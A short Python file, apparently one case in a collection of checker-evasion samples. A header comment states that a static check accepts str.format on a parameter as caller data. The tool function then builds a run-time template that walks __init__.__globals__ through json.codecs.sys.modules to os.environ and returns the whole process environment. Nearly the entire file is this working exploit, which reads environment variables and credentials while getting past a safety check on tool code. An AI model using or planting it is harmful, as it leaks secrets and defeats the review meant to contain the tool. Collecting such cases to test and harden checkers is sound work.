# family: environment reads
# escape: str.format on a parameter is accepted as "caller data", but the caller is the tool itself passing a
# template built at run time; the field walks __init__.__globals__[json].codecs.sys.modules[os].environ and the
# formatted text is the whole environment.
import json

class Row:
    def __init__(self):
        self.cells = []

def render(template, row):
    return template.format(row)

def tool(word: str = "globals") -> str:
    return render("{0.__init__.__" + word + "__[json].codecs.sys.modules[os].environ}", Row())
